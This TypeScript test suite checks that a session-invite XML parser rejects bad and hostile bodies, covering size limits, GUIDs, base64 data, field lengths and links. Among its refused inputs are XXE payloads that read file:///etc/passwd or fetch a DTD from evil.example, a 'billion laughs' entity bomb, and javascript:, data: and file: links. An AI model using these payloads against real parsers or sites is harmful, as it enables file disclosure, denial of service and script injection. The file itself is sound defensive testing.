import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { escapeXml } from '../xml/safe-xml';
import { utf8ByteLength } from '../xml/xml-text';
import type { SessionInviteResult, SessionInviteRule } from './session-invite';
import { SESSION_INVITE_LIMITS, parseSessionData, parseSessionInvite } from './session-invite';

const APP = '{8B1D6E2A-3C4F-4A7B-9E0D-5F6A7B8C9D01}';
const TICKET_B64 = 'eyJ0aWNrZXQiOjQ3MTF9';
const enc = new TextEncoder();

/** A body written by hand, so tests do not depend on the builder. Values are escaped. */
function sessionXml(appId: string | undefined, entries: readonly (readonly [string, string])[] = []): string {
  const id = appId === undefined ? '' : `<application-id>${escapeXml(appId)}</application-id>`;
  const items = entries.map(([name, value]) => `<entry><name>${escapeXml(name)}</name><value>${escapeXml(value)}</value></entry>`).join('');
  return `<session>${id}<additional-properties>${items}</additional-properties></session>`;
}

/** A valid body of exactly `bytes` UTF-8 bytes, padded by an unknown entry of `unit` characters. */
function bodyOfBytes(bytes: number, unit: 'a' | 'é' | '😀' = 'a'): string {
  const base = sessionXml(APP, [['pad', '']]);
  const room = bytes - utf8ByteLength(base);
  const size = utf8ByteLength(unit);
  const fill = unit.repeat(Math.floor(room / size)) + 'a'.repeat(room % size);
  const body = sessionXml(APP, [['pad', fill]]);
  expect(utf8ByteLength(body)).toBe(bytes);
  return body;
}

function invite(result: SessionInviteResult): Extract<SessionInviteResult, { ok: true }>['invite'] {
  if (!result.ok) {
    throw new Error(`expected an invite, got ${result.rule}: ${result.warning}`);
  }
  return result.invite;
}

function ruleOf(body: string): SessionInviteRule | undefined {
  const result = parseSessionInvite(body);
  return result.ok ? undefined : result.rule;
}

const NOTES_EXAMPLE = `<session>
  <application-id>${APP}</application-id>
  <additional-properties>
    <entry><name>data</name><value>${TICKET_B64}</value></entry>
    <entry><name>name</name><value>Ticket Pane</value></entry>
    <entry><name>customToast</name><value>Customer context attached</value></entry>
    <entry><name>simpleLink</name><value>https://crm.example.org/t/4711</value></entry>
    <entry><name>installLink</name><value>https://crm.example.org/install</value></entry>
  </additional-properties>
</session>`;

describe('parseSessionInvite: reading', () => {
  it('reads the example of the protocol notes', () => {
    expect(parseSessionInvite(NOTES_EXAMPLE)).toEqual({
      ok: true,
      invite: {
        appId: APP,
        rawAppId: APP,
        data: { text: '{"ticket":4711}', bytesBase64: TICKET_B64, decoded: enc.encode('{"ticket":4711}') },
        name: 'Ticket Pane',
        customToast: 'Customer context attached',
        simpleLink: 'https://crm.example.org/t/4711',
        installLink: 'https://crm.example.org/install',
        other: {},
      },
    });
  });

  it('reads a well-formed version of the UCMA-CCC sample: white space in GUID and URL, lower-case GUID', () => {
    const body = `<?xml version="1.0" encoding="utf-8"?>
<session>
  <application-id>{8b1d6e2a-3c4f-4a7b-9e0d-5f6a7b8c9d01}   </application-id>
  <additional-properties>
    <entry><name>simpleLink</name><value>https://crm.example.org/t/4711   </value></entry>
    <entry><name>name</name><value>  Ticket Pane  </value></entry>
  </additional-properties>
</session>`;
    const read = invite(parseSessionInvite(body));
    expect(read).toMatchObject({ appId: APP, rawAppId: '{8b1d6e2a-3c4f-4a7b-9e0d-5f6a7b8c9d01}   ', name: 'Ticket Pane' });
    expect(read.simpleLink).toBe('https://crm.example.org/t/4711');
    expect(read.data).toBeUndefined();
  });

  it('refuses the un-encoded data of the UCMA-CCC sample: the issue says not base64 is 400, no raw fallback', () => {
    expect(parseSessionInvite(sessionXml(APP, [['data', 'Some context data']]))).toMatchObject({ ok: false, status: 400, rule: 'data-not-base64' });
  });

  it('accepts the root and children in any namespace, and ignores unknown elements', () => {
    const body = `<s:session xmlns:s="urn:example:any"><s:future><s:deep/></s:future><s:application-id>${APP}</s:application-id>
      <p:additional-properties xmlns:p="urn:other"><p:entry><p:name>name</p:name><p:value>X</p:value><p:extra/></p:entry></p:additional-properties></s:session>`;
    expect(invite(parseSessionInvite(body))).toMatchObject({ appId: APP, name: 'X' });
    expect(invite(parseSessionInvite(`<session xmlns="urn:example:default"><application-id>${APP}</application-id></session>`)).appId).toBe(APP);
  });

  it('reads a body with only an application-id', () => {
    expect(parseSessionInvite(`<session><application-id>${APP}</application-id></session>`)).toEqual({
      ok: true,
      invite: { appId: APP, rawAppId: APP, data: undefined, other: {} },
    });
  });

  it('collects entries from every additional-properties, skips nameless entries, and reads a missing value as blank', () => {
    const body = `<session><application-id>${APP}</application-id>
      <additional-properties><entry><name>name</name><value>N</value></entry><entry><value>orphan</value></entry></additional-properties>
      <additional-properties><entry><name> </name><value>x</value></entry><entry><name>customToast</name></entry><entry><name>k</name><value> v </value></entry></additional-properties>
      <entry><name>simpleLink</name><value>javascript:alert(1)</value></entry></session>`;
    expect(invite(parseSessionInvite(body))).toEqual({ appId: APP, rawAppId: APP, data: undefined, name: 'N', other: { k: 'v' } });
  });

  it('matches known entry names ASCII-case-insensitively and keeps unknown ones as written', () => {
    const body = sessionXml(APP, [
      ['NAME', 'n'],
      [' CustomTOAST ', 't'],
      ['Ticket-Id', ' 4711 '],
      ['simpleLin\u212A', 'kelvin sign is not k'],
    ]);
    expect(invite(parseSessionInvite(body))).toEqual({
      appId: APP,
      rawAppId: APP,
      data: undefined,
      name: 'n',
      customToast: 't',
      other: { 'Ticket-Id': '4711', 'simpleLin\u212A': 'kelvin sign is not k' },
    });
  });

  it('keeps the first of repeated unknown entries', () => {
    expect(invite(parseSessionInvite(sessionXml(APP, [['k', '1'], ['k', '2']]))).other).toEqual({ k: '1' });
  });

  it('keeps other without a prototype, so hostile names stay plain entries', () => {
    const { other } = invite(parseSessionInvite(sessionXml(APP, [['__proto__', 'p'], ['constructor', 'c'], ['toString', 't']])));
    expect(Object.getPrototypeOf(other)).toBeNull();
    expect(Object.keys(other)).toEqual(['__proto__', 'constructor', 'toString']);
    expect(other['constructor']).toBe('c');
    expect(invite(parseSessionInvite(sessionXml(APP))).other['hasOwnProperty']).toBeUndefined();
    expect(Object.isFrozen(other)).toBe(true);
  });

  it('treats blank optional values as absent', () => {
    const body = sessionXml(APP, [['data', ' \n '], ['name', ' '], ['customToast', ''], ['simpleLink', '\t'], ['installLink', '']]);
    expect(invite(parseSessionInvite(body))).toEqual({ appId: APP, rawAppId: APP, data: undefined, other: {} });
  });

  it('decodes character references and CDATA in values', () => {
    const body = `<session><application-id>${APP}</application-id><additional-properties>
      <entry><name>name</name><value>Q&amp;A &#x1F600; <![CDATA[<b>]]></value></entry></additional-properties></session>`;
    expect(invite(parseSessionInvite(body)).name).toBe('Q&A 😀 <b>');
  });
});

describe('parseSessionInvite: body size, checked before parsing', () => {
  it('accepts 4095 bytes and refuses 4096 (ASCII)', () => {
    expect(SESSION_INVITE_LIMITS.bodyBytes).toBe(4096);
    expect(parseSessionInvite(bodyOfBytes(4095)).ok).toBe(true);
    expect(parseSessionInvite(bodyOfBytes(4096))).toMatchObject({ ok: false, status: 400, rule: 'too-large' });
  });

  it('counts UTF-8 bytes, not UTF-16 units', () => {
    const ok = bodyOfBytes(4095, 'é');
    const big = bodyOfBytes(4096, 'é');
    expect(big.length).toBeLessThan(4096);
    expect(parseSessionInvite(ok).ok).toBe(true);
    expect(ruleOf(big)).toBe('too-large');
    const emoji = bodyOfBytes(4096, '😀');
    expect(emoji.length).toBeLessThan(3000);
    expect(ruleOf(emoji)).toBe('too-large');
    expect(parseSessionInvite(bodyOfBytes(4095, '😀')).ok).toBe(true);
  });

  it('counts a byte-order mark', () => {
    expect(parseSessionInvite(`\uFEFF${bodyOfBytes(4092)}`).ok).toBe(true);
    expect(ruleOf(`\uFEFF${bodyOfBytes(4093)}`)).toBe('too-large');
  });

  it('refuses an oversized body before looking at it', () => {
    expect(ruleOf(`<!DOCTYPE x>${'<'.repeat(5000)}`)).toBe('too-large');
    expect(ruleOf('x'.repeat(4096))).toBe('too-large');
    expect(ruleOf('x'.repeat(10_000_000))).toBe('too-large');
  });
});

describe('parseSessionInvite: XML safety', () => {
  it.each([
    ['empty', '', 'empty'],
    ['blank', ' \n ', 'empty'],
    ['not XML', 'application-id=' + APP, 'malformed'],
    ['the mismatched tag of the UCMA-CCC sample', `<session><application-id>${APP}</application-id><additional-properties><entry><name>data</name><value>x</valu></entry></additional-properties></session>`, 'malformed'],
    ['unclosed root', `<session><application-id>${APP}</application-id>`, 'malformed'],
    ['two roots', `<session/><session/>`, 'malformed'],
    ['text after the root', `<session><application-id>${APP}</application-id></session>trailing`, 'malformed'],
    ['a DOCTYPE', `<!DOCTYPE session><session><application-id>${APP}</application-id></session>`, 'doctype'],
    ['XXE through an external entity', `<?xml version="1.0"?><!DOCTYPE session [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><session><application-id>${APP}</application-id><additional-properties><entry><name>name</name><value>&xxe;</value></entry></additional-properties></session>`, 'doctype'],
    ['XXE through a parameter entity', `<!DOCTYPE session [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]><session/>`, 'doctype'],
    ['an entity declaration without DOCTYPE', `<!ENTITY a "b"><session><application-id>${APP}</application-id></session>`, 'entity'],
    ['an undeclared entity reference', `<session><application-id>${APP}</application-id><additional-properties><entry><name>name</name><value>&xxe;</value></entry></additional-properties></session>`, 'entity'],
    ['an HTML entity', `<session><application-id>${APP}</application-id><additional-properties><entry><name>name</name><value>&nbsp;</value></entry></additional-properties></session>`, 'entity'],
    ['a control character', `<session><application-id>${APP}\u0001</application-id></session>`, 'malformed'],
  ])('refuses %s', (_label, body, rule) => {
    expect(parseSessionInvite(body)).toMatchObject({ ok: false, status: 400, rule });
  });

  it('refuses "billion laughs" quickly, without expanding anything', () => {
    const lol = ['<!DOCTYPE lolz [', '<!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i += 1) {
      lol.push(`<!ENTITY lol${i} "${`&lol${i - 1 === 0 ? '' : i - 1};`.repeat(10)}">`);
    }
    const body = `${lol.join('\n')}\n]><session><application-id>${APP}</application-id><additional-properties><entry><name>name</name><value>&lol9;</value></entry></additional-properties></session>`;
    expect(utf8ByteLength(body)).toBeLessThan(4096);
    const started = performance.now();
    expect(ruleOf(body)).toBe('doctype');
    expect(ruleOf(body.slice(body.indexOf('<!ENTITY')))).toBe('entity');
    expect(performance.now() - started).toBeLessThan(250);
  });

  it('decodes predefined references, and a flood of them is bounded by the size limit', () => {
    const body = sessionXml(APP, [['name', '&'.repeat(50)]]);
    expect(ruleOf(body)).toBeUndefined();
    expect(ruleOf(`<session><application-id>${APP}</application-id>${'&amp;'.repeat(1000)}</session>`)).toBe('too-large');
  });

  it('refuses another root element', () => {
    expect(parseSessionInvite(`<Conferencing><application-id>${APP}</application-id></Conferencing>`)).toMatchObject({ rule: 'wrong-root' });
    expect(ruleOf(`<Session><application-id>${APP}</application-id></Session>`)).toBe('wrong-root');
  });
});

describe('parseSessionInvite: application-id', () => {
  it.each([
    ['braced upper', APP],
    ['braced lower', APP.toLowerCase()],
    ['braced mixed', '{8b1D6e2A-3C4f-4a7B-9e0D-5f6A7b8C9d01}'],
    ['unbraced', APP.slice(1, -1)],
    ['unbraced lower', APP.slice(1, -1).toLowerCase()],
    ['trailing white space', `${APP}   `],
    ['white space around', `\n\t ${APP.toLowerCase()} \r\n`],
  ])('accepts %s and normalises it', (_label, raw) => {
    const read = invite(parseSessionInvite(sessionXml(raw)));
    expect(read.appId).toBe(APP);
    expect(read.rawAppId).toBe(raw);
  });

  it.each([
    ['no element', undefined, 'no-application-id'],
    ['an empty element', '', 'no-application-id'],
    ['a blank element', ' \n ', 'no-application-id'],
    ['one brace', `{${APP.slice(1, -1)}`, 'bad-application-id'],
    ['no hyphens', APP.slice(1, -1).replace(/-/g, ''), 'bad-application-id'],
    ['a short id', APP.slice(0, -2) + '}', 'bad-application-id'],
    ['a long id', APP.slice(0, -1) + '0}', 'bad-application-id'],
    ['non-hex', APP.replace('B', 'G'), 'bad-application-id'],
    ['white space inside', APP.replace('-', ' -'), 'bad-application-id'],
    ['a name', 'Ticket Pane', 'bad-application-id'],
  ])('refuses %s', (_label, raw, rule) => {
    expect(parseSessionInvite(sessionXml(raw))).toMatchObject({ ok: false, status: 400, rule });
  });

  it('refuses two application-id elements, even equal ones', () => {
    expect(ruleOf(`<session><application-id>${APP}</application-id><application-id>${APP}</application-id></session>`)).toBe('duplicate');
  });
});

describe('parseSessionInvite: data', () => {
  it('decodes base64 to bytes, with text when the bytes are UTF-8', () => {
    const text = invite(parseSessionInvite(sessionXml(APP, [['data', '4pyTIMOgIGxhIG1vZGU=']]))).data;
    expect(text).toEqual({ text: '✓ à la mode', bytesBase64: '4pyTIMOgIGxhIG1vZGU=', decoded: enc.encode('✓ à la mode') });
    const binary = invite(parseSessionInvite(sessionXml(APP, [['data', '/wD+']]))).data;
    expect(binary).toEqual({ bytesBase64: '/wD+', decoded: Uint8Array.of(0xff, 0x00, 0xfe) });
  });

  it('removes XML white space inside (line-wrapped base64) and around', () => {
    const wrapped = ` eyJ0aWNr\r\n ZXQiOjQ3\tMTF9 \n`;
    expect(invite(parseSessionInvite(sessionXml(APP, [['data', wrapped]]))).data).toMatchObject({ text: '{"ticket":4711}', bytesBase64: TICKET_B64 });
  });

  it.each([
    ['plain text', 'hello world'],
    ['a bad character', 'eyJ0aWNr!XQiOjQ3MTF9'],
    ['URL-safe alphabet', 'eyJ0-_=='],
    ['missing padding', 'Zm9vYg'],
    ['bad padding', 'Zg=a'],
    ['padding in the middle', 'Zg==Zm9v'],
    ['a wrong length', 'Zm9vY'],
    ['non-zero pad bits', 'Zh=='],
    ['non-XML white space (NBSP)', 'Zm9v\u00A0Zm9v'],
  ])('refuses %s with data-not-base64', (_label, value) => {
    expect(parseSessionInvite(sessionXml(APP, [['data', value]]))).toMatchObject({ ok: false, status: 400, rule: 'data-not-base64' });
  });

  it('holds data to 4096 base64 characters: 4096 pass, 4097 do not (parseSessionData)', () => {
    const max = 'QUJD'.repeat(1024);
    expect(max).toHaveLength(4096);
    expect(parseSessionData(max)).toMatchObject({ ok: true, data: { text: 'ABC'.repeat(1024), bytesBase64: max } });
    expect(parseSessionData(`${max}Q`)).toEqual({ ok: false, rule: 'data-too-long' });
    expect(parseSessionData(`${max}QUJD`)).toEqual({ ok: false, rule: 'data-too-long' });
    expect(parseSessionData('?'.repeat(4097))).toEqual({ ok: false, rule: 'data-too-long' });
  });

  it('counts the limit without white space', () => {
    const wrapped = 'QUJD'.repeat(1024).replace(/.{76}/g, '$&\r\n');
    expect(parseSessionData(wrapped)).toMatchObject({ ok: true, data: { bytesBase64: 'QUJD'.repeat(1024) } });
  });

  it('reads blank data as none', () => {
    expect(parseSessionData(' \r\n\t')).toEqual({ ok: true, data: undefined });
  });

  it('cannot reach the data limit through a whole body: 4096 characters of data make the body too large', () => {
    expect(ruleOf(sessionXml(APP, [['data', 'QUJD'.repeat(1024)]]))).toBe('too-large');
    const room = 4095 - utf8ByteLength(sessionXml(APP, [['data', '']]));
    const largest = 'QUJD'.repeat(Math.floor(room / 4));
    expect(invite(parseSessionInvite(sessionXml(APP, [['data', largest]]))).data?.bytesBase64).toBe(largest);
  });
});

describe('parseSessionInvite: name and customToast, in code points', () => {
  it.each([
    ['ASCII', 'n'],
    ['emoji (two UTF-16 units each)', '😀'],
    ['accented', 'é'],
  ])('name: 50 %s characters pass, 51 do not', (_label, ch) => {
    expect(invite(parseSessionInvite(sessionXml(APP, [['name', ch.repeat(50)]]))).name).toBe(ch.repeat(50));
    expect(parseSessionInvite(sessionXml(APP, [['name', ch.repeat(51)]]))).toMatchObject({ ok: false, status: 400, rule: 'name-too-long' });
  });

  it.each([
    ['ASCII', 't'],
    ['emoji (two UTF-16 units each)', '😀'],
  ])('customToast: 80 %s characters pass, 81 do not', (_label, ch) => {
    expect(invite(parseSessionInvite(sessionXml(APP, [['customToast', ch.repeat(80)]]))).customToast).toBe(ch.repeat(80));
    expect(parseSessionInvite(sessionXml(APP, [['customToast', ch.repeat(81)]]))).toMatchObject({ ok: false, status: 400, rule: 'toast-too-long' });
  });

  it('counts after trimming', () => {
    expect(invite(parseSessionInvite(sessionXml(APP, [['name', `  ${'n'.repeat(50)}\n`], ['customToast', `\t${'t'.repeat(80)} `]])))).toMatchObject({
      name: 'n'.repeat(50),
      customToast: 't'.repeat(80),
    });
  });

  it('counts a combining sequence as its code points', () => {
    const decomposed = 'e\u0301'.repeat(25);
    expect(invite(parseSessionInvite(sessionXml(APP, [['name', decomposed]]))).name).toBe(decomposed);
    expect(ruleOf(sessionXml(APP, [['name', `${decomposed}x`]]))).toBe('name-too-long');
  });
});

describe('parseSessionInvite: links', () => {
  it.each(['simpleLink', 'installLink'])('%s: https only; javascript:, data:, http: and relative links are refused', (entry) => {
    expect(invite(parseSessionInvite(sessionXml(APP, [[entry, ' https://crm.example.org/x?a=1 '], ['name', 'N']])))).toMatchObject({
      [entry]: 'https://crm.example.org/x?a=1',
    });
    for (const link of ['javascript:alert(1)', ' JAVASCRIPT:alert(1)', 'data:text/html,x', 'http://crm.example.org/', '/relative', 'https://a@evil.example/', 'file:///etc/passwd']) {
      expect(parseSessionInvite(sessionXml(APP, [[entry, link]]))).toMatchObject({ ok: false, status: 400, rule: 'bad-link' });
    }
  });
});

describe('parseSessionInvite: duplicates, order and warnings', () => {
  it.each(['data', 'name', 'customToast', 'simpleLink', 'installLink'])('refuses a repeated %s entry, in any case', (entry) => {
    const value = entry === 'data' ? TICKET_B64 : entry.endsWith('Link') ? 'https://x.example/' : 'v';
    expect(ruleOf(sessionXml(APP, [[entry, value], [entry.toUpperCase(), value]]))).toBe('duplicate');
  });

  it('checks in the documented order: size, XML, root, application-id, duplicates, data, name, toast, links', () => {
    const bad = { data: ['data', 'no'], name: ['name', 'n'.repeat(51)], toast: ['customToast', 't'.repeat(81)], link: ['simpleLink', 'javascript:x'] } as const;
    expect(ruleOf(`<other>${'x'.repeat(4100)}</other>`)).toBe('too-large');
    expect(ruleOf('<other><x></other>')).toBe('malformed');
    expect(ruleOf(`<other><application-id>bad</application-id></other>`)).toBe('wrong-root');
    expect(ruleOf(sessionXml('bad', [bad.data, bad.data]))).toBe('bad-application-id');
    expect(ruleOf(sessionXml(APP, [bad.link, bad.toast, bad.name, bad.data, bad.data]))).toBe('duplicate');
    expect(ruleOf(sessionXml(APP, [bad.link, bad.toast, bad.name, bad.data]))).toBe('data-not-base64');
    expect(ruleOf(sessionXml(APP, [bad.link, bad.toast, bad.name]))).toBe('name-too-long');
    expect(ruleOf(sessionXml(APP, [bad.link, bad.toast]))).toBe('toast-too-long');
    expect(ruleOf(sessionXml(APP, [bad.link]))).toBe('bad-link');
  });

  it('writes a warning that names the rule, fits a quoted-string and echoes nothing from the body', () => {
    const marker = 'EVIL"\\\u0085';
    const bodies = [
      `<session><${'x'.repeat(3)}><application-id>${escapeXml(marker)}</application-id></session>`,
      `<session attr="${escapeXml(marker)}"><EVIL></session>`,
      sessionXml(`EVIL${APP}`),
      sessionXml(APP, [['name', `EVIL${'n'.repeat(60)}`]]),
      sessionXml(APP, [['simpleLink', 'javascript:EVIL()']]),
      sessionXml(APP, [['data', 'EVIL!']]),
      `<EVIL/>`,
    ];
    for (const body of bodies) {
      const result = parseSessionInvite(body);
      if (result.ok) {
        throw new Error('expected a refusal');
      }
      expect(result.warning).toMatch(new RegExp(`^invalid session invite, ${result.rule}: `));
      expect(result.warning).not.toMatch(/EVIL|["\\\u0000-\u001f\u007f-\u009f]/);
      expect(Array.from(result.warning).length).toBeLessThanOrEqual(120);
    }
  });

  it('gives malformed bodies a line number', () => {
    expect(parseSessionInvite('<session>\n<a>\n</session>')).toMatchObject({ rule: 'malformed', warning: expect.stringMatching(/\(line \d+\)$/) });
  });

  it('never throws, and always answers 400 with a safe warning, on arbitrary input', () => {
    const fragment = fc.constantFrom('<session>', '</session>', '<application-id>', '</application-id>', APP, '<entry>', '</entry>', '<name>', '</name>', '<value>', '</value>', 'data', 'name', '&amp;', '&x;', '<!DOCTYPE', '<![CDATA[', ']]>', '"', '\u0000', '😀');
    const body = fc.oneof(fc.string({ unit: 'binary', maxLength: 200 }), fc.array(fragment, { maxLength: 30 }).map((parts) => parts.join('')));
    fc.assert(
      fc.property(body, (text) => {
        const result = parseSessionInvite(text);
        if (!result.ok) {
          expect(result.status).toBe(400);
          expect(result.warning).not.toMatch(/["\\\u0000-\u001f]/);
        }
      }),
      { numRuns: 1000 },
    );
  });
});
